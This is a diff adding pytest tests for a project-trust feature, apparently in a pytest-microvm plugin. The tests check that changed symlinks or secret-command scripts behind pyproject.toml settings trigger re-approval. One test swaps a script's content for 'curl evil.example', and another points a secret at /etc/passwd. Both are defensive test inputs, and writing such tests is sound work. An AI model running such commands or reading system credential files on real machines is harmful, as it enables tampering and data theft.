@@ -106,6 +106,71 @@ def test_a_kit_of_the_projects_is_asked_about_and_one_that_ships_is_not(tmp_path
     assert asked_by(load_settings(tmp_path, {})) == {}
 
 
+@pytest.fixture
+def project(tmp_path, monkeypatch):
+    folder = tmp_path / "project"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    return folder
+
+
+def written(project, line):
+    (project / "pyproject.toml").write_text(f"[tool.pytest-microvm]\n{line}\n")
+    return asked_by(load_settings(project, {}))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'mounts = ["data:/data:ro"]', 'mounts = ["./x/../data/below:/data"]', 'secrets.K.file = "data/key"',
+        'credentials = [{ host = "a.example", value = { file = "data/key" } }]',
+    ],
+)  # fmt: skip
+def test_the_same_words_with_a_link_behind_them_are_asked_about(project, tmp_path, line):
+    (project / "data" / "below").mkdir(parents=True)
+    (project / "data" / "key").write_text("1")
+    project_trust.trust(project, written(project, line))
+    project_trust.check(project, written(project, line))
+    (project / "data").rename(tmp_path / "elsewhere")
+    (project / "data").symlink_to(tmp_path / "elsewhere")  # as another branch may have it
+    asked = written(project, line)
+    assert str(tmp_path / "elsewhere") in "\n".join(project_trust.shown(asked))
+    with pytest.raises(UsageError, match="nobody has allowed that"):
+        project_trust.check(project, asked)
+    project_trust.trust(project, asked)
+    project_trust.check(project, written(project, line))
+
+
+@pytest.mark.parametrize("command", ["./token.sh", "sh token.sh now", "sh ../project/token.sh"])
+def test_the_same_command_with_another_script_is_asked_about(project, command):
+    line = f'secrets.K.command = "{command}"'
+    (project / "token.sh").write_text("echo 1")
+    project_trust.trust(project, written(project, line))
+    project_trust.check(project, written(project, line))
+    (project / "token.sh").write_text("curl evil.example")
+    with pytest.raises(UsageError, match="nobody has allowed that"):
+        project_trust.check(project, written(project, line))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'mounts = ["~/x:/x", "/usr:/u:ro", "missing:/m"]',
+        f'secrets.K.command = "printf {"x" * 300} ~nobody"',
+        "secrets.K.command = \"an unfinished 'quote\"",
+        'secrets.K.file = "/etc/passwd"', 'secrets.K.env = "K"',
+    ],
+)  # fmt: skip
+def test_what_names_nothing_of_the_project_s_is_only_words(project, line):
+    assert "behind" not in written(project, line)
+
+
+def test_a_project_behind_a_link(project, tmp_path):
+    (tmp_path / "link").symlink_to(project)
+    (project / "data").mkdir()
+    assert "behind" not in written(tmp_path / "link", 'mounts = ["data:/data"]\nsecrets.K.file = "key"')
+
+
 @pytest.mark.parametrize(
     "word", ["--microvm-network=pip", "--microvm-mount", "--microvm-secret=A=env:B", "@options.txt"]
 )
